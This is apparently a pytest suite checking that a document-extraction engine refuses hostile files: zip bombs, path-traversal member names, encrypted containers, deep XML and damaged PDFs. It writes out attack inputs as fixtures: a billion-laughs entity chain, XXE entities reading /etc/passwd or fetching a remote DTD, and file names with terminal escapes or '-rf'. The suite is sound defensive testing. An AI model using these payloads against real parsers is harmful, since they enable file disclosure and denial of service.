"""Files made to harm: each ends in one sentence, or is read as far as it is honest."""

import io
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from benchmarks.mutations import SOURCES, damaged, outcome
from rubin_tui.engine.library.extract import extract_text
from rubin_tui.engine.library.extract import flow as flow_module
from rubin_tui.engine.library.extract.archive import MEMBERS, Archive
from rubin_tui.engine.library.extract.values import Source
from rubin_tui.engine.library.extract.worker import extract_file
from rubin_tui.messages import Failure
from tests.containers import bomb, container, docx, odf, paragraph, xlsx
from tests.engine.library.reading import read, refusal
from tests.pdf_writer import Pdf


@pytest.fixture(scope="module")
def huge() -> bytes:
    """Of 600 KiB, that unpack to 600 MiB."""
    return bomb("word/document.xml", 600)


CONTAINERS = ("a.docx", "a.xlsx", "a.pptx", "a.odt", "a.ods", "a.odp", "a.epub")


@pytest.mark.parametrize("name", CONTAINERS)
def test_a_bomb_is_refused_by_what_it_declares(name: str, huge: bytes) -> None:
    assert len(huge) < 700_000
    assert refusal(name, huge) == "import.bomb"


def test_a_bomb_that_lies_about_its_size_is_refused_while_it_unpacks() -> None:
    data = bomb("word/document.xml", 64, declared=1000)
    assert refusal("a.docx", data) == "import.damaged"
    taken = 0
    with pytest.raises(Failure, match="damaged"):
        for chunk in Archive(Source("a.docx", data)).stream("word/document.xml"):
            taken += len(chunk)
    assert taken <= 1000


def test_many_members_that_are_large_only_together_are_refused_while_they_unpack(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("rubin_tui.engine.library.extract.archive.TOTAL_BYTES", 50_000)
    archive = Archive(Source("a.docx", container({"a": b"a" * 40_000})))
    assert len(archive.read("a")) == 40_000
    with pytest.raises(Failure) as caught:  # a directory may name the same bytes twice
        archive.read("a")
    assert caught.value.message.id == "import.bomb"
    assert refusal("a.docx", container({"a": b"a" * 40_000, "b": b"b" * 20_000})) == "import.bomb"


def test_a_small_document_may_be_packed_well() -> None:
    text = "the same words again and again " * 5_000
    found = extract_text("a.docx", docx(paragraph(text)))
    assert found.pages[0].text == text.strip()


@pytest.mark.parametrize("name", ["../a.xml", "word/../../a.xml", "/etc/passwd", "C:\\a.xml", "..\\a.xml"])
def test_names_that_lead_outside_are_refused(name: str) -> None:
    held = io.BytesIO(docx(paragraph("Text.")))
    with zipfile.ZipFile(held, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), "x")
    assert refusal("a.docx", held.getvalue()) == "import.unsafe_archive"


def test_too_many_members_are_refused_before_they_are_listed() -> None:
    entry = b"PK\x01\x02" + bytes(42)
    entries = b"".join(entry for _ in range(100_000))
    data = entries + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(entries), 0, 0)
    assert refusal("a.docx", data) == "import.bomb"
    members = {f"word/{number}.xml": "" for number in range(MEMBERS + 1)}
    assert refusal("a.docx", container(members)) == "import.bomb"


def test_archives_inside_are_not_opened() -> None:
    members = {"word/document.xml": "<w:p xmlns:w='w'/>", "word/embeddings/inner.zip": bomb("x", 40)}
    assert refusal("a.docx", container(members)) == "import.no_words"


def test_what_is_behind_a_password_is_said_to_be() -> None:
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
    assert refusal("a.docx", old + "EncryptedPackage".encode("utf-16-le")) == "import.encrypted"
    assert refusal("a.docx", old) == "import.old_office"
    data = bytearray(docx(paragraph("Text.")))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    assert refusal("a.docx", bytes(data)) == "import.encrypted"
    manifest = "<m:manifest xmlns:m='m'><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"
    members = {"content.xml": "\x00", "META-INF/manifest.xml": manifest}
    assert refusal("a.odt", container(members)) == "import.encrypted"
    assert refusal("a.epub", container({"META-INF/rights.xml": ""})) == "import.encrypted"


LAUGHS = "".join(f'<!ENTITY l{number + 1} "{f"&l{number};" * 10}">' for number in range(9))
BILLION = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>'


@pytest.mark.parametrize(
    ("prolog", "use"), [(BILLION, "&l9;"), (OUTSIDE, "&secret;"), (PARAMETER, ""), (OUTSIDE, "")]
)
def test_entities_are_refused_wherever_xml_is_read(prolog: str, use: str) -> None:
    assert refusal("a.xml", f"{prolog}<x>{use}</x>") == "import.xml_entities"
    assert refusal("a.xml", f"{prolog}<x>{use}</x>".encode("utf-16")) == "import.xml_entities"
    for name, member in (
        ("a.docx", "word/document.xml"),
        ("a.odt", "content.xml"),
        ("a.xlsx", "xl/workbook.xml"),
    ):
        for encoding in ("utf-8", "utf-16"):
            members = {member: f"{prolog}<x>{use}</x>".encode(encoding)}
            assert refusal(name, container(members)) == "import.xml_entities"


def test_deep_xml_is_refused() -> None:
    deep = "<a>" * 100_000 + "</a>" * 100_000
    assert refusal("a.xml", deep) == "import.too_deep"
    assert refusal("a.docx", container({"word/document.xml": deep})) == "import.too_deep"
    assert refusal("a.odt", container({"content.xml": deep})) == "import.too_deep"
    assert refusal("a.pptx", container({"ppt/presentation.xml": deep})) == "import.too_deep"


def test_a_cell_said_a_million_times_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(flow_module, "CHARACTERS", 100_000)
    cells = "".join(f'<row><c r="A{number}" t="s"><v>0</v></c></row>' for number in range(200))
    assert refusal("a.xlsx", xlsx({"S": cells}, strings=["x" * 1000])) == "import.too_much_text"
    assert refusal("a.html", f"<p>{'x' * 100_001}") == "import.too_much_text"


def test_rows_and_columns_said_to_repeat_for_ever_cost_nothing() -> None:
    repeat = 'table:number-columns-repeated="1000000000"'
    body = (
        f'<office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell {repeat}/>'
        f"<table:table-cell {repeat}><text:p>far</text:p></table:table-cell></table:table-row>"
        '<table:table-row table:number-rows-repeated="99999999"><table:table-cell><text:p>a<text:s '
        'text:c="999999999"/>b</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>'
    )
    assert read("a.ods", odf(body))[0][0] == ("S",)
    assert read("a.ods", odf(body))[0][2].endswith("a b")


def test_a_workbook_that_points_to_what_is_not_there_says_nothing_wrong() -> None:
    cells = (
        '<row><c r="ZZZZ1" t="s"><v>7</v></c><c r="A1" t="s"><v>-1</v></c><c r="B1" s="99"><v>5</v></c>'
        '<c r="C1"><v>1e999</v></c><c r="D1"><v>abc</v></c></row>'
    )
    assert read("a.xlsx", xlsx({"S": cells})) == [(("S",), "table", "| 5 | inf | abc")]


@pytest.mark.parametrize(
    "name", ["a\nb.docx", "\x1b]0;x\x07.html", "a\u202e.csv", "-rf.xml", "%s{path}.json"]
)
def test_names_of_files_may_hold_anything(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"")
    with pytest.raises(Failure) as caught:
        list(extract_file(str(path), 1000))
    assert (caught.value.message.id, caught.value.message.params["path"]) == ("import.empty", str(path))
    assert extract_text(name.replace("docx", "txt"), "Text.").pages[0].text.strip() == "Text."


@pytest.mark.parametrize("name", ["a.doc", "a.xls", "a.ppt", "a.rtf"])
def test_old_formats_are_told_what_to_become(name: str) -> None:
    assert refusal(name, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)) == "import.old_office"


TEN_THOUSAND = """
import re, sys
from pathlib import Path
from rubin_tui.engine.library.extract.worker import extract_file
*_, last, end = extract_file(sys.argv[1], 10**9)
page = last["page"]
most = re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())
print(page["text"], page["label"], int(most[1]) // 1024)
"""
"""Its own peak: `ru_maxrss` would count that of the process it was started from."""


@pytest.mark.skipif(sys.platform != "linux", reason="peaks of memory as Linux tells them")
def test_a_pdf_of_ten_thousand_pages_is_read_in_little_memory(tmp_path: Path) -> None:
    pdf = Pdf()
    for _ in range(10_000):
        pdf.column("Fault F30002 stops the drive.")
    path = tmp_path / "a.pdf"
    path.write_bytes(pdf.bytes())
    ran = subprocess.run(
        [sys.executable, "-c", TEN_THOUSAND, str(path)], capture_output=True, text=True, check=True
    )
    text, _, megabytes = ran.stdout.strip().rpartition(" ")
    assert text == "Fault F30002 stops the drive. 10000"
    assert int(megabytes) < 200


def test_a_pdf_that_refers_to_itself_without_end_is_read_or_refused() -> None:
    whole = Pdf(title="Manual").column("Text of a page.").bytes()
    looped = whole.replace(b"/Kids [", b"/Kids [2 0 R ", 1)
    assert outcome("a.pdf", looped) in ("pdf", "import.pdf_broken", "import.no_text")


@pytest.mark.parametrize("name", SOURCES)
def test_damaged_files_end_in_a_sentence_or_are_read(name: str) -> None:
    """A tenth of what `benchmarks.mutations` tries."""
    outcomes = {outcome(name, data) for data in damaged(name, 20)}
    bad = {told for told in outcomes if told.startswith("import.")}
    assert bad <= {
        "import.empty",
        "import.damaged",
        "import.encrypted",
        "import.bomb",
        "import.unsafe_archive",
        "import.no_words",
        "import.no_text",
        "import.pdf_broken",
        "import.pdf_encrypted",
        "import.not_a_pdf",
        "import.binary",
        "import.too_deep",
        "import.xml_entities",
    }
    assert outcomes - bad <= {name.rpartition(".")[2], "code"}
